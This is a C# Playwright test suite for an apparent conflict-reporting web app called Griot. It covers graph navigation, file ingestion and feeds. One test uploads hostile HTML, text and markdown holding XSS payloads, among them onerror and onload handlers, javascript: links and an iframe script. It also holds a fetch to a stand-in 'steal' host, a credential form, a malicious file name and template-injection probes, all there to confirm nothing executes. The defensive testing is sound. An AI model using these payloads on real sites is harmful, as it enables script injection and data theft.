using System.Text;
using System.Text.RegularExpressions;
using Griot.Store;
using Microsoft.Playwright;
using Xunit;
using static Microsoft.Playwright.Assertions;

namespace Griot.Web.Tests;

/// <summary>The samples as they were read: an actor followed through the network to the words of a source; files that people bring, and those that enemies do.</summary>
[Collection(RunningDesk.Tests)]
public sealed class FollowingTests(RunningDesk desk)
{
    [Fact]
    public async Task An_actor_is_followed_from_the_network_to_the_words_of_a_source()
    {
        var page = await (await desk.Administrator()).Context.NewPageAsync();
        await page.GotoAsync("/network");
        await page.Locator(".net[data-ready]").WaitForAsync();
        // A click on the actor, then on one of its ties.
        var at = await page.EvaluateAsync<float[]>("() => { const net = document.querySelector('.net'), box = net.querySelector('.net-live').getBoundingClientRect(); net.graph.fit(); const node = net.graph.nodes().filter((one) => one.data('name') === 'French Armed Forces')[0], { x, y } = node.renderedPosition(); return [box.x + x, box.y + y]; }");
        await page.Mouse.ClickAsync(at[0], at[1]);
        var picked = page.GetByRole(AriaRole.Complementary, new() { Name = "What was picked" });
        await Expect(picked.GetByRole(AriaRole.Heading)).ToHaveTextAsync("French Armed Forces");
        await picked.Locator("button.tie").First.ClickAsync();
        await Expect(picked.GetByRole(AriaRole.Heading)).ToContainTextAsync("→");
        await Expect(picked.Locator("li").First).ToContainTextAsync("“");
        await picked.GetByRole(AriaRole.Link, new() { Name = "As a page" }).ClickAsync();
        await Expect(page.Locator(".lines li").First).ToBeVisibleAsync();

        // An edge by itself, then the profile, an event, the report.
        await page.GotoAsync("/network?show=deeds");
        await page.Locator(".net[data-ready]").WaitForAsync();
        await page.EvaluateAsync("() => { document.querySelector('.net').graph.edges()[0].emit('tap'); }");
        await Expect(picked.Locator("li").First).ToContainTextAsync("“");
        await page.EvaluateAsync("() => { document.querySelector('.net').graph.nodes().filter((one) => one.data('name') === 'French Armed Forces')[0].emit('tap'); }");
        await picked.GetByRole(AriaRole.Link, new() { Name = "Profile" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("French Armed Forces");
        await ToTheSource(page);
        await page.CloseAsync();
    }

    [Fact]
    public async Task From_a_profile_the_network_is_the_one_of_that_actor()
    {
        var page = await (await desk.Administrator()).Context.NewPageAsync();
        await page.SetViewportSizeAsync(360, 740);
        await page.GotoAsync("/actors?name=French%20Armed");
        await page.GetByRole(AriaRole.Link, new() { Name = "French Armed Forces" }).First.ClickAsync();
        var profile = new Uri(page.Url).AbsolutePath;
        await page.GetByRole(AriaRole.Link, new() { Name = "network", Exact = true }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("Network of French Armed Forces");
        await page.Locator(".net[data-ready]").WaitForAsync();
        // Its ties, and those of the tied among themselves; drawn as in the tables, with itself marked.
        var rows = await page.EvaluateAsync<string[][]>("() => [...document.querySelectorAll('.net ~ .section tbody tr')].map((row) => [...row.querySelectorAll('a.row')].map((link) => link.getAttribute('href')))");
        var near = rows.Where(row => row.Contains(profile)).SelectMany(row => row).ToHashSet();
        Assert.NotEmpty(near);
        Assert.All(rows, row => Assert.Subset(near, row.ToHashSet()));
        Assert.Equal(rows.Length, await page.EvaluateAsync<int>("document.querySelector('.net').graph.edges().length"));
        Assert.Equal("French Armed Forces", await page.EvaluateAsync<string>("document.querySelector('.net').graph.nodes('.at').map((node) => node.data('name')).join()"));
        // No part is wider than a phone.
        Assert.True(await page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= document.documentElement.clientWidth"));
        await page.GetByRole(AriaRole.Link, new() { Name = "The whole network" }).ClickAsync();
        await page.Locator(".net[data-ready]").WaitForAsync();
        Assert.True(await page.EvaluateAsync<int>("document.querySelector('.net').graph.edges().length") > rows.Length);
        Assert.True(await page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= document.documentElement.clientWidth"));
        await page.CloseAsync();
    }

    [Fact]
    public async Task Without_a_script_the_same_way_leads_over_tables()
    {
        var page = await desk.Invite("Without a script", DeskRole.Reader, script: false);
        await page.GotoAsync("/network");
        await Expect(page.Locator("svg.circle-network")).ToBeVisibleAsync();
        await page.Locator("table a", new() { HasText = "claim" }).First.ClickAsync();
        await Expect(page.Locator(".lines li").First).ToContainTextAsync("“");
        await page.GotoAsync("/actors?name=French");
        await page.GetByRole(AriaRole.Link, new() { Name = "French Armed Forces" }).First.ClickAsync();
        await ToTheSource(page);
        await page.Context.CloseAsync();
    }

    static async Task ToTheSource(IPage page)
    {
        await page.Locator("tbody .day a").First.ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Who says what" })).ToBeVisibleAsync();
        var words = page.Locator("tbody .grow a.row").First;
        var claim = Regex.Match(await words.GetAttributeAsync("href") ?? "", "(?<=#)c1[0-9a-f]{20}$", RegexOptions.None, TimeSpan.FromSeconds(1)).Value;
        await words.ClickAsync();
        await Expect(page.Locator($"[data-claim='{claim}']")).ToBeInViewportAsync();
        await Expect(page.Locator($"[data-trigger='{claim}']").First).ToBeVisibleAsync();
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_PDF_is_taken_in_and_read(bool script)
    {
        // A report as somebody printed it to PDF.
        var printer = await desk.Window();
        await printer.SetContentAsync($"<h1>Patrol ambushed near Ménaka {script}</h1><p>MENAKA, 3 March 2013 - Gunmen ambushed a patrol of the Malian army near Ménaka on Saturday and killed four soldiers, a military official said.</p>");
        var pdf = await printer.PdfAsync();
        await printer.Context.CloseAsync();

        var page = await desk.Invite("Brings a PDF " + script, DeskRole.Analyst, script);
        await page.GotoAsync("/add");
        await page.GetByLabel("Files, up to").SetInputFilesAsync(new FilePayload { Name = "patrol.pdf", MimeType = "application/pdf", Buffer = pdf });
        await page.GetByLabel("Who publishes it").FillAsync("The Menaka Post");
        await page.GetByRole(AriaRole.Button, new() { Name = "Take in" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("Added");
        await page.GetByRole(AriaRole.Link, new() { Name = "Read what it says" }).ClickAsync();
        await Expect(page.Locator("div.text").First).ToContainTextAsync("killed four soldiers");
        await Expect(page.Locator(".claim").First).ToBeVisibleAsync();
        await Expect(page.Locator(".claim .toll").First).ToContainTextAsync("4 killed");
        await page.Context.CloseAsync();
    }

    const string Hostile = """
        <!DOCTYPE html><html><head><title>Soldiers killed <img src=x onerror="document.title='hacked'"></title>
        <base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example/taken">
        <script>window.hacked = 1; fetch('https://elsewhere.example/steal')</script><style>body { display: none } @import url(https://elsewhere.example/a.css);</style>
        <link rel="stylesheet" href="https://elsewhere.example/b.css"></head><body onload="window.hacked = 2"><article>
        <p>GAO, 4 March 2013 - Gunmen killed three soldiers in Gao on Sunday, <a href="javascript:window.hacked=3">a witness said</a>. The attackers fled north towards the desert after the attack, residents of the town said.</p>
        <p>The army &lt;script&gt;window.hacked=4&lt;/script&gt; said it had &lt;img src=x onerror=window.hacked=5&gt; arrested two men in Gao on Monday and sent more troops to the town in the evening.</p>
        <svg onload="window.hacked=6"><a xlink:href="javascript:window.hacked=7"><text>x</text></a></svg><iframe srcdoc="<script>parent.hacked=8</script>"></iframe>
        <form action="https://elsewhere.example/"><input name="password"></form></article>
        """;

    [Fact]
    public async Task A_hostile_page_is_shown_as_text_and_nothing_of_it_runs()
    {
        var page = await desk.Invite("Brings a trap", DeskRole.Analyst);
        var faults = Watch(page);
        var traps = new (string Name, string Type, string Content)[]
        {
            ("trap.html", "text/html", Hostile),
            ("<img src=x onerror=window.hacked=9>.txt", "text/plain", "Three dead <script>window.hacked=10</script>\n\nGunmen killed three soldiers in Gao on 4 March 2013. <img src=x onerror=\"window.hacked=11\"> \"><svg/onload=window.hacked=12> [a](javascript:window.hacked=13) {{7*7}} ${7*7}"),
            ("trap.md", "text/markdown", "---\ntitle: \"<script>window.hacked=14</script>\"\nsource: \"<b onmouseover=window.hacked=15>Wire</b>\"\n---\n\n# <img src=x onerror=window.hacked=16>\n\nGunmen killed five soldiers in Gao on 5 March 2013. [more](javascript:window.hacked=17)"),
        };
        foreach (var (name, type, content) in traps)
        {
            await page.GotoAsync("/add");
            await page.GetByLabel("Files, up to").SetInputFilesAsync(new FilePayload { Name = name, MimeType = type, Buffer = Encoding.UTF8.GetBytes(content) });
            await page.GetByRole(AriaRole.Button, new() { Name = "Take in" }).ClickAsync();
            await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToHaveTextAsync("Added");
            await page.GetByRole(AriaRole.Link, new() { Name = "Read what it says" }).ClickAsync();
            await Expect(page.Locator("div.text").Last).ToContainTextAsync("soldiers in Gao");
            Assert.Empty(await page.Locator("main script, main iframe, main [onerror], main [onload], main a[href^='javascript'], main form[action^='http'], base").AllAsync());
            var events = page.GetByRole(AriaRole.Link, new() { Name = "Its event" });
            if (await events.CountAsync() > 0)
            {
                await events.First.ClickAsync();
                await Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Who says what" })).ToBeVisibleAsync();
            }
        }

        // What was escaped in the page is text of the report, angle brackets and all.
        await page.GotoAsync("/read");
        await page.GetByRole(AriaRole.Link, new() { Name = "Soldiers killed" }).First.ClickAsync();
        await Expect(page.Locator("div.text").Last).ToContainTextAsync("<img src=x onerror=window.hacked=5>");
        foreach (var address in new[] { "/", "/read", "/events", "/sources", "/actors", "/search?q=hacked", "/search?q=" + Uri.EscapeDataString("<script>window.hacked=18</script>"), "/map", "/timeline", "/quarantine" })
        {
            await page.GotoAsync(address);
        }

        Assert.False(await page.EvaluateAsync<bool>("'hacked' in window"));
        Assert.Empty(faults);
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task Nesting_without_end_and_files_that_are_none_are_told_and_the_desk_goes_on()
    {
        var page = await desk.Invite("Brings nonsense", DeskRole.Analyst);
        var faults = Watch(page);
        await page.GotoAsync("/add");
        await page.GetByLabel("Files, up to").SetInputFilesAsync(
        [
            new FilePayload { Name = "deep.html", MimeType = "text/html", Buffer = Encoding.UTF8.GetBytes("<html><body>" + string.Concat(Enumerable.Repeat("<div><b>", 60_000)) + "Gunmen killed six soldiers in Gao on 6 March 2013.") },
            new FilePayload { Name = "not.pdf", MimeType = "application/pdf", Buffer = Encoding.ASCII.GetBytes("%PDF-1.7\nnothing of the kind\n%%EOF") },
            new FilePayload { Name = "picture.txt", MimeType = "text/plain", Buffer = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, 0, 0, 0, 0] },
        ]);
        await page.GetByRole(AriaRole.Button, new() { Name = "Take in" }).ClickAsync();
        await Expect(page.Locator(".lines li")).ToHaveCountAsync(3, new() { Timeout = 60_000 });
        await Expect(page.Locator(".lines li", new() { HasText = "not.pdf" })).ToContainTextAsync(new Regex("PDF|read", RegexOptions.None, TimeSpan.FromSeconds(1)));
        await page.GotoAsync("/");
        await Expect(page.GetByRole(AriaRole.Heading, new() { Level = 1 })).ToBeVisibleAsync();
        Assert.Empty(faults);
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task A_claim_that_tells_of_something_else_is_split_off_its_event_and_put_back()
    {
        var page = await desk.Invite("Splits", DeskRole.Analyst);
        await page.GotoAsync("/events?country=MLI&type=ASSAULT");
        // An event of which several sentences tell.
        foreach (var address in await page.Locator("tbody .day a").EvaluateAllAsync<string[]>("links => links.map(link => link.getAttribute('href'))"))
        {
            await page.GotoAsync(address);
            if (await page.Locator("input[name=claim]").CountAsync() > 1)
            {
                break;
            }
        }

        var boxes = page.Locator("input[name=claim]");
        var before = await boxes.CountAsync();
        Assert.True(before > 1);
        await page.GetByRole(AriaRole.Button, new() { Name = "Split what is ticked off" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Alert)).ToContainTextAsync("tick some of what is told");
        // Two texts may tell it in the same words.
        var told = page.Locator("a.row", new() { HasText = await page.Locator(".ticked a.row").Last.InnerTextAsync() });
        var times = await told.CountAsync();
        await boxes.Last.CheckAsync();
        await page.GetByRole(AriaRole.Button, new() { Name = "Split what is ticked off" }).ClickAsync();
        await Expect(page.Locator(".notice")).ToContainTextAsync("Split by Splits");
        await Expect(told).ToHaveCountAsync(times - 1);
        await page.GetByRole(AriaRole.Button, new() { Name = "Undo the split" }).ClickAsync();
        await Expect(told).ToHaveCountAsync(times);
        await page.Context.CloseAsync();
    }

    [Fact]
    public async Task A_feed_is_followed_asked_and_left_and_one_that_is_none_is_told()
    {
        await using var site = new FeedSite();
        var page = await (await desk.Administrator()).Context.NewPageAsync();
        await page.GotoAsync("/admin/feeds");
        await Expect(page.Locator(".empty")).ToContainTextAsync("None is followed yet");
        await page.GetByLabel("Address").FillAsync(site.Address + "no-feed");
        await page.GetByRole(AriaRole.Button, new() { Name = "Follow it" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Alert)).ToContainTextAsync("cannot be followed");
        await page.GetByLabel("Address").FillAsync(site.Address + "rss");
        await page.GetByRole(AriaRole.Button, new() { Name = "Follow it" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Status)).ToContainTextAsync("It is followed");
        await Expect(page.Locator("tbody tr")).ToContainTextAsync("The Gao Gazette");
        await page.GetByRole(AriaRole.Button, new() { Name = "Ask all now" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Status)).ToBeVisibleAsync();
        for (var tries = 0; tries < 60 && await page.Locator("tbody td[data-label=articles]").InnerTextAsync() != "1"; tries++)
        {
            await page.WaitForTimeoutAsync(500);
            await page.GotoAsync("/admin/feeds");
        }

        await Expect(page.Locator("tbody td[data-label=articles]")).ToHaveTextAsync("1");
        await page.GotoAsync("/sources");
        await Expect(page.Locator("main")).ToContainTextAsync("The Gao Gazette");
        await page.GotoAsync("/admin/feeds");
        await page.GetByRole(AriaRole.Button, new() { Name = "Follow The Gao Gazette no longer" }).ClickAsync();
        await Expect(page.GetByRole(AriaRole.Status)).ToContainTextAsync("What it brought stays");
        await page.GotoAsync("/admin/audit");
        await Expect(page.Locator("main")).ToContainTextAsync("feed followed");
        await page.CloseAsync();
    }

    [Fact]
    public async Task Models_and_gazetteers_are_told_with_their_licences()
    {
        var page = await (await desk.Administrator()).Context.NewPageAsync();
        await page.GotoAsync("/admin/parts");
        await Expect(page.Locator("tbody")).ToContainTextAsync("en.griot");
        await Expect(page.Locator("tbody")).ToContainTextAsync("CC BY");
        await Expect(page.Locator("tbody")).ToContainTextAsync("places");
        await page.CloseAsync();
    }

    /// <summary>What should not happen: a dialog, a fault of a script, a complaint of the browser about what a page is not allowed, a request to elsewhere.</summary>
    List<string> Watch(IPage page)
    {
        var faults = new List<string>();
        page.Dialog += (_, dialog) => faults.Add("dialog: " + dialog.Message);
        page.PageError += (_, fault) => faults.Add("fault: " + fault);
        page.Console += (_, message) => faults.AddRange(message.Type is "error" ? ["console: " + message.Text] : []);
        page.Request += (_, request) => faults.AddRange(request.Url.StartsWith(desk.Address.ToString(), StringComparison.Ordinal) || request.Url.StartsWith("data:", StringComparison.Ordinal) || request.Url.StartsWith("blob:", StringComparison.Ordinal) ? [] : ["request: " + request.Url]);
        return faults;
    }
}
